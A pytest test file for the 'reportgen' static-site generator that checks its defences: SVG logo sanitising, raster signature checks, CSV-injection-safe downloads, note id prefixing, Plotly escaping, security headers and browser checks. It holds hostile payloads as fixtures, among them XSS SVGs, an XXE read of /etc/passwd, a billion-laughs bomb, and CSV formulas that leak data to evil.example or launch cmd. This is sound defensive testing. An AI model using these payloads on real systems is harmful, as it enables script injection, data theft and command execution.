"""No published file runs script but reportgen's own; user text stays text everywhere.

Issue 10 items 1, 4, 5, 7, 8, 9: SVG logos redrawn from an allow-list (a
hostile corpus and generated SVGs), raster logos checked by signature, no
Plotly cloud button, names with markup shown literally inside charts,
CSV-injection-safe downloads, note ids that cannot take the page's, and the
security headers in `_headers`.
"""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest
import yaml
from conftest import run_cli
from helpers import draw_all_charts, make_project
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reportgen import charts, images
from reportgen.i18n import Formatter
from reportgen.notehtml import NOTE_ID_PREFIX, render_markdown, sanitize_html
from reportgen.pages import spreadsheet_text
from reportgen.site import HEADERS_FILE

SVG = "http://www.w3.org/2000/svg"
TEMPLATES = Path(__file__).resolve().parent.parent / "templates"


# --- SVG logos: a hostile corpus -------------------------------------------------------


def svg(body: str, root_attributes: str = "") -> bytes:
    return (
        f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
        f'{root_attributes}>{body}<rect id="ok" width="5" height="5" fill="#123456"/></svg>'
    ).encode()


HOSTILE_SVGS = {
    "script": svg("<script>document.documentElement.dataset.pwned = 1</script>"),
    "script-cdata": svg("<script><![CDATA[alert(1)]]></script>"),
    "script-xhtml-namespace": svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script-src": svg('<script href="https://evil.example/x.js"/>'),
    "onload-root": svg("", ' onload="alert(1)"'),
    "onclick": svg('<circle r="3" onclick="alert(1)" onmouseover="alert(2)"/>'),
    "onbegin-uppercase": svg('<g ONLOAD="alert(1)"><rect width="1" height="1"/></g>'),
    "foreignObject": svg(
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<iframe src="javascript:alert(1)"/></body></foreignObject>'
    ),
    "javascript-href": svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
    "javascript-xlink": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    "javascript-entity-encoded": svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
    "use-external": svg('<use href="https://evil.example/sprite.svg#icon"/>'),
    "use-external-xlink": svg('<use xlink:href="http://evil.example/sprite.svg#icon"/>'),
    "use-data-svg": svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
    "image-external": svg('<image href="https://evil.example/track.png" width="1" height="1"/>'),
    "image-data-html": svg('<image href="data:text/html;base64,PHNjcmlwdD4=" width="1" height="1"/>'),
    "image-data-svg": svg('<image xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'),
    "style-import": svg("<style>@import url(https://evil.example/x.css); rect{fill:red}</style>"),
    "style-import-string": svg('<style>@import "https://evil.example/x.css";</style>'),
    "style-url": svg("<style>rect{fill:url(https://evil.example/p.svg#p)}</style>"),
    "style-escape": svg("<style>rect{background:\\75 rl(https://evil.example/)}</style>"),
    "style-image-set": svg('<style>rect{background:image-set("https://evil.example/a.png" 1x)}</style>'),
    "style-attribute-url": svg('<rect style="fill:url(\'http://evil.example/x\')" width="1" height="1"/>'),
    "fill-url-external": svg('<rect fill="url(https://evil.example/g.svg#g)" width="1" height="1"/>'),
    "filter-url-external": svg('<rect filter="url(//evil.example/f.svg#f)" width="1" height="1"/>'),
    "animate-href": svg(
        '<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
    ),
    "animate-xlink": svg(
        '<animate xlink:href="#ok" attributeName="xlink:href" values="javascript:alert(1)"/>'
    ),
    "animateTransform": svg('<animateTransform attributeName="transform" type="rotate"/>'),
    "iframe-embed-object": svg(
        '<iframe src="https://evil.example"/><embed src="x.swf"/><object data="x.html"/>'
    ),
    "feImage": svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
    "handler-element": svg('<handler type="application/ecmascript">alert(1)</handler>'),
    "inkscape-metadata": svg(
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
        '</metadata><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        'inkscape:label="Layer" data-name="x"><path d="M0 0H1"/></g>'
    ),
    "pattern-external": svg('<pattern id="p" href="https://evil.example/p.svg#p"/>'),
    "mask-external": svg('<rect mask="url(\'https://evil.example/m.svg#m\')" width="1" height="1"/>'),
}

REFUSED_SVGS = {
    "doctype": b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
    "entity": b'<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "billion-laughs": b'<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">'
    b"<text>&c;&c;&c;</text></svg>",
    "external-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "html-document": b"<!doctype html><html><script>alert(1)</script></html>",
    "html-root": b"<html><body onload='alert(1)'/></html>",
    "not-xml": b"<svg><script>alert(1)</svg>",
    "xhtml-root": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "empty": b"",
    "binary": bytes(range(256)),
    "deep": ("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 200 + "</g>" * 200 + "</svg>").encode(),
}

ALLOWED_ELEMENTS = images._ELEMENTS


def assert_static_drawing(published: bytes) -> None:
    """What a published SVG may hold: allow-listed SVG elements, no script, no way out."""
    text = published.decode("utf-8")
    lowered = re.sub(r'\sxmlns(:\w+)?="[^"]*"', "", text).lower()
    for word in (
        "<script",
        "javascript:",
        "<!doctype",
        "<!entity",
        "foreignobject",
        "@import",
        "http:",
        "https:",
        "//evil",
        "data:text",
        "data:image/svg",
    ):
        assert word not in lowered, (word, text)
    root = ElementTree.fromstring(published)
    assert root.tag == f"{{{SVG}}}svg"
    for element in root.iter():
        namespace, _, name = element.tag[1:].partition("}")
        assert namespace == SVG and name in ALLOWED_ELEMENTS, element.tag
        for key, value in element.attrib.items():
            local = key.rsplit("}", 1)[-1]
            assert not local.lower().startswith("on"), (key, value)
            if local == "href":
                assert value.startswith("#") or re.match(r"data:image/(png|jpeg|gif|webp);", value), value
            for url in re.findall(r"url\(\s*['\"]?([^'\")]*)", value):
                assert url.startswith("#"), (key, value)


@pytest.mark.parametrize("name", sorted(HOSTILE_SVGS))
def test_hostile_svg_is_redrawn_as_a_static_drawing(name):
    published, removed = images.sanitize_svg(HOSTILE_SVGS[name])
    assert_static_drawing(published)
    assert b'id="ok"' in published  # the drawing itself survives
    assert removed, name  # whatever is left out is named, editor metadata too


@pytest.mark.parametrize("name", sorted(REFUSED_SVGS))
def test_svg_that_cannot_be_parsed_safely_is_refused(name):
    with pytest.raises(images.ImageError):
        images.sanitize_svg(REFUSED_SVGS[name])


def test_plain_logo_is_kept_whole_and_fragments_still_work():
    source = svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<clipPath id="c"><circle r="4"/></clipPath></defs>'
        "<style>.a{fill:url(#g)}</style>"
        '<rect class="a" clip-path="url(#c)" width="9" height="9" style="fill:url(&quot;#g&quot;)"/>'
        '<use href="#ok" x="1"/><use xlink:href="#ok"/>'
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
        '<text x="1" y="8" font-size="3">A &amp; B <tspan fill="red">&lt;b&gt;</tspan></text>'
    )
    published, removed = images.sanitize_svg(source)
    assert removed == ()
    assert_static_drawing(published)
    for kept in (
        b'clip-path="url(#c)"',
        b".a{fill:url(#g)}",
        b'<use href="#ok" x="1"/>',
        b'xlink:href="#ok"',
        b"data:image/png;base64",
        b"A &amp; B <tspan",
        b"&lt;b&gt;",
    ):
        assert kept in published, kept


def test_sanitizing_is_idempotent_and_deterministic():
    for source in HOSTILE_SVGS.values():
        once, _ = images.sanitize_svg(source)
        assert images.sanitize_svg(once) == (once, ())
        assert images.sanitize_svg(source)[0] == once


# Generated SVGs: any mix of allowed and hostile elements, attributes and values.
_TAGS = st.sampled_from(
    [
        "g",
        "rect",
        "path",
        "text",
        "a",
        "script",
        "foreignObject",
        "use",
        "image",
        "style",
        "set",
        "animate",
        "switch",
        "iframe",
        "h:script",
        "feImage",
        "defs",
    ]
)
_ATTRS = st.sampled_from(
    [
        "fill",
        "href",
        "xlink:href",
        "onload",
        "onClick",
        "style",
        "id",
        "filter",
        "transform",
        "src",
        "data-x",
        "clip-path",
        "begin",
        "to",
        "values",
    ]
)
_VALUES = st.sampled_from(
    [
        "#ok",
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "url(#ok)",
        "url(https://evil.example/x)",
        "url( 'http://evil.example' )",
        "https://evil.example/a.svg#b",
        "data:text/html,x",
        "data:image/png;base64,AAAA",
        "fill:red",
        "@import 'x'",
        "red",
        "",
        "\u202e<&>\"'",
    ]
)


@st.composite
def svg_nodes(draw, depth=0):
    tag = draw(_TAGS)
    attributes = draw(st.dictionaries(_ATTRS, _VALUES, max_size=4))
    rendered = "".join(f' {k}="{html.escape(v, quote=True)}"' for k, v in attributes.items())
    children = draw(st.lists(svg_nodes(depth + 1), max_size=3)) if depth < 3 else []
    text = html.escape(draw(st.text(max_size=8)).replace("\x00", ""), quote=False)
    text = "".join(
        c
        for c in text
        if c in "\t\n\r"
        or (ord(c) >= 0x20 and not 0xD800 <= ord(c) <= 0xDFFF and ord(c) not in (0xFFFE, 0xFFFF))
    )
    return f"<{tag}{rendered}>{text}{''.join(children)}</{tag}>"


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(svg_nodes(), max_size=4))
def test_generated_svgs_publish_only_static_drawings(nodes):
    source = svg("".join(nodes)).replace(b"<svg ", b'<svg xmlns:h="http://www.w3.org/1999/xhtml" ', 1)
    published, _removed = images.sanitize_svg(source)
    assert_static_drawing(published)
    assert images.sanitize_svg(published)[0] == published


# --- raster logos: the bytes must be the format the name says ---------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
RASTER_CASES = {
    "logo.png": (PNG, True),
    "logo.jpg": (b"\xff\xd8\xff\xe0" + b"\0" * 32, True),
    "logo.gif": (b"GIF89a" + b"\0" * 32, True),
    "logo.webp": (b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 32, True),
    "html.png": (b"<!doctype html><script>alert(1)</script>", False),
    "svg.png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False),
    "png.jpg": (PNG, False),
    "empty.gif": (b"", False),
    "riff.webp": (b"RIFF\x10\0\0\0WAVEfmt " + b"\0" * 32, False),
}


@pytest.mark.parametrize("name", sorted(RASTER_CASES))
def test_raster_logo_must_carry_its_formats_signature(tmp_path, name):
    content, good = RASTER_CASES[name]
    path = tmp_path / name
    path.write_bytes(content)
    if good:
        assert images.load_image(path) == (content, ())
    else:
        with pytest.raises(images.ImageError, match="is not a"):
            images.load_image(path)


def set_logo(root: Path, name: str, content: bytes, agency: bool = False) -> int:
    """Give acme-corp (or the agency) a logo; returns the logo's clients.yaml line."""
    (root / "assets").mkdir(exist_ok=True)
    (root / "assets" / name).write_bytes(content)
    document = yaml.safe_load((root / "clients.yaml").read_text())
    if agency:
        document["agency"]["logo"] = f"assets/{name}"
    else:
        document["clients"][0]["brand"]["logo"] = f"assets/{name}"
    text = yaml.safe_dump(document, sort_keys=False, allow_unicode=True, width=1000)
    (root / "clients.yaml").write_text(text)
    return next(i for i, line in enumerate(text.splitlines(), 1) if f"assets/{name}" in line)


def test_fake_png_logo_is_an_error_at_its_line(project):
    line = set_logo(project, "acme.png", b"<html><script>alert(1)</script></html>")
    result = run_cli("check", "--project", project)
    assert result.exit_code == 1
    assert (
        f"clients.yaml:{line}: clients[1].brand.logo: 'assets/acme.png' is not a PNG image"
        in result.output + (result.stderr or "")
    ), result.output


def test_svg_with_doctype_is_an_error_and_the_old_site_stays(tmp_path, project):
    out = tmp_path / "site"
    assert run_cli("build", "--project", project, "--out", out).exit_code == 0
    before = sorted(p.as_posix() for p in out.rglob("*"))
    line = set_logo(project, "agency.svg", REFUSED_SVGS["entity"], agency=True)
    result = run_cli("build", "--project", project, "--out", out)
    assert result.exit_code == 1
    assert f"clients.yaml:{line}: agency.logo: 'assets/agency.svg' is an SVG with a DOCTYPE" in result.output
    assert "Traceback" not in result.output
    assert sorted(p.as_posix() for p in out.rglob("*")) == before


HOSTILE_LOGO = svg(
    "<script>document.documentElement.setAttribute('data-pwned', 'script')</script>"
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'
    '<image href="https://evil.example/t.png" width="1" height="1"/>',
    """ onload="document.documentElement.setAttribute('data-pwned', 'onload')\"""",
)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    """A project whose names carry markup and formulas, with a hostile SVG logo."""
    root = tmp_path_factory.mktemp("hostile") / "proj"
    make_project(root)
    set_logo(root, "acme.svg", HOSTILE_LOGO)
    set_logo(root, "agency.svg", HOSTILE_LOGO, agency=True)
    document = yaml.safe_load((root / "clients.yaml").read_text())
    acme = document["clients"][0]
    renames = {}  # old campaign id → (new id, name, channel)
    for campaign, new_id, name, channel in zip(
        acme["campaigns"], FORMULA_IDS, MARKUP_NAMES, MARKUP_CHANNELS, strict=True
    ):
        renames[campaign["id"]] = (new_id, channel)
        campaign.update(id=new_id, name=name, channel=channel)
    (root / "clients.yaml").write_text(yaml.safe_dump(document, sort_keys=False, width=1000))
    for data in (root / "data" / "acme-corp").glob("*.csv"):
        rows = list(csv.reader(io.StringIO(data.read_text())))
        for row in rows[1:]:
            row[1], row[2] = renames[row[1]]
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        data.write_text(buffer.getvalue())
    note = root / "content" / "acme-corp" / "2026-10.md"
    note.write_text(
        note.read_text() + "\n```chart\nmetric: spend\ntype: bar\nby: campaign\n"
        'compare: previous\n```\n\n<h2 id="chart-1-data">Not data</h2>\n'
        '<h3 id="chart-1">x</h3><h4 id="download-metrics-csv">y</h4>\n'
    )
    result = run_cli("build", "--project", root)
    assert result.exit_code == 0, result.output
    assert "left out of the published logo" in result.output + (result.stderr or "")
    return root / "site"


FORMULA_IDS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3"]
MARKUP_NAMES = [
    '<a href="https://evil.example/">Linked name</a>',
    '<b style="color:red">Bold name</b>',
    "Tom & Jerry <br> ads",
]
MARKUP_CHANNELS = ["@SUM(1+1)<i>chan</i>", "@SUM(1+1)<i>chan</i>", "\tsocial <sup>x</sup>"]


def test_published_logos_are_static_drawings(hostile_site):
    logos = [p for p in hostile_site.rglob("*.svg")]
    assert len(logos) == 2  # the client's and the agency's
    for logo in logos:
        assert_static_drawing(logo.read_bytes())


def test_metrics_csv_neutralises_formulas_but_not_numbers(hostile_site):
    text = (hostile_site / "acme-corp" / "2026-10" / "metrics.csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    campaigns = {row[header.index("campaign")] for row in body}
    channels = {row[header.index("channel")] for row in body}
    assert campaigns == {"'" + c for c in FORMULA_IDS}
    # The data reader trims a cell's spaces and tabs; what is left is neutralised.
    assert channels == {spreadsheet_text(c.strip()) for c in MARKUP_CHANNELS}
    assert "'@SUM(1+1)<i>chan</i>" in channels
    for row in body:
        for cell in row[3:]:
            assert cell == "" or float(cell) == float(cell)  # numbers stay numbers
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.e+-]+", cell), cell


@settings(max_examples=50, deadline=None)
@given(st.text(max_size=30))
def test_spreadsheet_text_never_starts_a_formula(text):
    safe = spreadsheet_text(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe == text or safe == "'" + text  # nothing else changes: the name can be read back
    if not text.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert safe == text


def test_note_ids_cannot_take_the_pages(hostile_site):
    page = (hostile_site / "acme-corp" / "2026-10" / "index.html").read_text()
    ids = re.findall(r'\sid="([^"]*)"', page)
    assert len(ids) == len(set(ids)), [i for i in ids if ids.count(i) > 1]
    assert 'id="note-chart-1-data"' in page and 'id="note-chart-1"' in page
    assert 'id="note-download-metrics-csv"' in page


def test_no_page_id_starts_with_the_note_prefix():
    for template in TEMPLATES.rglob("*.html"):
        assert f'id="{NOTE_ID_PREFIX}' not in template.read_text(), template


def test_markdown_heading_anchors_take_the_prefix_and_links_follow():
    out = render_markdown(
        "# Kpis\n\n## Results\n\n[up](#results) [page](#campaigns)\n\n## Results\n"
        '<h3 id="trends">raw</h3><h4 id="note-x">kept</h4>'
    )
    ids = re.findall(r'\sid="([^"]*)"', out)
    # Every id a note gives takes the prefix, even one already starting with it: a heading
    # "note-budget" must not collide with "## Budget".
    assert ids == ["note-kpis", "note-results", "note-results_1", "note-trends", "note-note-x"]
    assert 'href="#note-results"' in out and 'href="#campaigns"' in out


_ID_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["h1", "h2", "h3", "div", "p", "a", "span", "section"]), _ID_TEXT),
        max_size=5,
    )
)
def test_every_id_a_note_keeps_carries_the_prefix(elements):
    source = "".join(
        f'<{tag} id="{html.escape(value, quote=True)}" name="{html.escape(value)}">x</{tag}>'
        for tag, value in elements
    )
    for out in (sanitize_html(source), render_markdown(source)):
        for value in re.findall(r'\s(?:id|name)="([^"]*)"', out):
            assert value.startswith(NOTE_ID_PREFIX), (value, out)


# --- Plotly: user text is text ---------------------------------------------------------


@settings(max_examples=50, deadline=None)
@given(st.text(max_size=40))
def test_plotly_text_escapes_and_round_trips(text):
    shown = charts.plotly_text(text)
    assert "<" not in shown and ">" not in shown
    assert html.unescape(shown) == text
    assert charts.plotly_text(shown) == shown  # escaped once, never twice


@settings(max_examples=30, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=20), min_size=1, max_size=4, unique=True), st.text(max_size=20))
def test_figures_carry_user_text_only_escaped(names, series_name):
    style = charts.ChartStyle(brand="#2563eb", fmt=Formatter("en_US", "USD"))
    points = [(name, float(i)) for i, name in enumerate(names)]
    marks = [(0, names[0])]
    views = [
        charts.line_chart(
            "t", [charts.Series(series_name or "x", points, "currency")], style, kind="bar", marks=marks
        ),
        charts.pie_chart("t", charts.Series(series_name or "x", points, "count"), style),
    ]
    for view in views:
        for trace in view.figure["data"]:
            # Legend entries wrap with Plotly's <br>: the only markup reportgen adds.
            shown = [trace.get("name", ""), *trace.get("x", []), *trace.get("labels", [])]
            for text in shown:
                assert "<" not in text.replace("<br>", "") and ">" not in text.replace("<br>", "")
            unwrapped = {
                re.sub(r"\s", "", html.unescape(t.replace("<br>", "")))
                for t in trace.get("x", trace.get("labels", []))
            }
            assert unwrapped <= {re.sub(r"\s", "", name) for name in names}
            assert "<" not in trace["hovertemplate"].replace("<extra>", "").replace("</extra>", "")
        for annotation in view.figure["layout"].get("annotations", []):
            assert html.unescape(annotation["hovertext"]) == names[0]


def test_a_figure_with_unescaped_text_is_refused():
    with pytest.raises(TypeError, match="PlotlyText"):
        charts.plotly_figure([{"type": "bar", "name": "<b>raw</b>", "x": [], "y": []}], {})
    with pytest.raises(TypeError, match="PlotlyText"):
        charts.plotly_figure([], {"annotations": [{"text": "1", "hovertext": "<a href='x'>x</a>"}]})


# --- host headers ---------------------------------------------------------------------


def test_headers_file_sends_the_policy_for_every_path():
    blocks: dict[str, dict[str, str]] = {}
    path = None
    for line in HEADERS_FILE.splitlines():
        if not line.startswith(" "):
            path = line.strip()
            blocks[path] = {}
        else:
            name, _, value = line.strip().partition(": ")
            assert name not in blocks[path]
            blocks[path][name] = value
    every = blocks["/*"]
    policy = every["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert "default-src 'none'" in policy and "unsafe-eval" not in policy
    assert every["X-Content-Type-Options"] == "nosniff"
    assert every["X-Frame-Options"] == "DENY"
    # A host joins the headers of every matching rule: no security header twice.
    for other, headers in blocks.items():
        if other != "/*":
            assert not {"Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options"} & set(
                headers
            ), other


# --- in Chromium ----------------------------------------------------------------------


def open_report(browser, path: Path):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(f"pageerror: {error}"))
    page.on(
        "console",
        lambda message: problems.append(f"console: {message.text}") if message.type == "error" else None,
    )
    page.on("popup", lambda popup: problems.append(f"popup: {popup.url}"))
    page.goto(path.as_uri())
    draw_all_charts(page, 30_000)  # charts draw as they near the view
    return context, page, problems


@pytest.mark.browser
@pytest.mark.parametrize("relative", ["acme-corp/2026-10/index.html", "acme-corp/index.html"])
def test_no_toolbar_button_sends_data_off_the_page(browser, hostile_site, relative):
    context, page, problems = open_report(browser, hostile_site / relative)
    try:
        assert page.evaluate("document.documentElement.dataset.charts") == "drawn"
        buttons = page.evaluate("""() => Array.from(document.querySelectorAll('.modebar-btn'))
            .map(b => [b.getAttribute('data-title') || '', b.getAttribute('data-attr') || '',
                       b.getAttribute('data-val') || '', b.tagName, b.getAttribute('href') || ''])""")
        assert buttons
        for title, attr, val, tag, href in buttons:
            assert not re.search(
                r"cloud|share|studio|edit|plotly|json", " ".join((title, attr, val)), re.I
            ), (title, attr, val)
            assert tag.lower() != "a" and not href, (title, href)
        titles = {b[0] for b in buttons}
        assert titles <= {"Download plot as a PNG", "Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"}
        assert page.evaluate("document.querySelectorAll('.modebar a[href]').length") == 0
        assert problems == []
    finally:
        context.close()


@pytest.mark.browser
def test_names_with_markup_are_shown_literally_inside_charts(browser, hostile_site):
    context, page, problems = open_report(browser, hostile_site / "acme-corp/2026-10/index.html")
    try:
        assert page.evaluate("document.documentElement.dataset.charts") == "drawn"
        inside = page.evaluate("""() => {
            const svgs = Array.from(document.querySelectorAll('.chart-canvas svg'));
            return {
              links: svgs.reduce((n, s) => n + s.querySelectorAll('a').length, 0),
              styled: svgs.reduce((n, s) => n + s.querySelectorAll('tspan[style*="red"]').length, 0),
              text: svgs.map(s => s.textContent).join(' | '),
            };
        }""")
        assert inside["links"] == 0 and inside["styled"] == 0
        for name in (
            '<a href="https://evil.example/">Linked name</a>',
            '<b style="color:red">Bold name</b>',
            "@SUM(1+1)<i>chan</i>",
        ):
            # literally, if cut on the axis (charts.tick_text: the full name in the hover)
            assert name in inside["text"] or name[:12] in inside["text"], name
        # The note's look-alike ids did not replace a chart's figure.
        assert page.evaluate("document.querySelectorAll('.chart-canvas[data-drawn=true]').length") >= 4
        # Hover shows the name as text too.
        drag = page.locator(".chart-bar .chart-canvas .nsewdrag").last  # the by-campaign bars
        drag.scroll_into_view_if_needed()
        box = drag.bounding_box()
        shown = []
        for fraction in (1 / 6, 1 / 2, 5 / 6):  # one bar group each (a row: names down the side)
            drag.hover(position={"x": box["width"] * 0.5, "y": box["height"] * fraction})
            page.wait_for_timeout(200)
            shown.append(
                page.evaluate("""() => Array.from(document.querySelectorAll('.hoverlayer'))
                .map(layer => layer.textContent).join(' ')""")
            )
            assert page.evaluate("document.querySelectorAll('.hoverlayer a').length") == 0
        hover = " | ".join(shown)
        assert sum(name in hover for name in MARKUP_NAMES) >= 2, hover
        assert problems == []
    finally:
        context.close()


@pytest.mark.browser
def test_opening_the_published_logo_runs_no_script(browser, hostile_site, tmp_path):
    # The same file before sanitizing does run script here: the check can see it.
    raw = tmp_path / "raw.svg"
    raw.write_bytes(HOSTILE_LOGO)
    logos = sorted(hostile_site.rglob("*.svg"))
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(raw.as_uri())
        page.wait_for_load_state("load")
        assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is not None
        for logo in logos:
            page = context.new_page()
            requests: list[str] = []
            page.on("request", lambda request, seen=requests: seen.append(request.url))
            page.goto(logo.as_uri())
            page.wait_for_load_state("load")
            assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is None
            assert page.evaluate("document.documentElement.localName") == "svg"
            assert all(url.startswith("file://") for url in requests), requests
    finally:
        context.close()
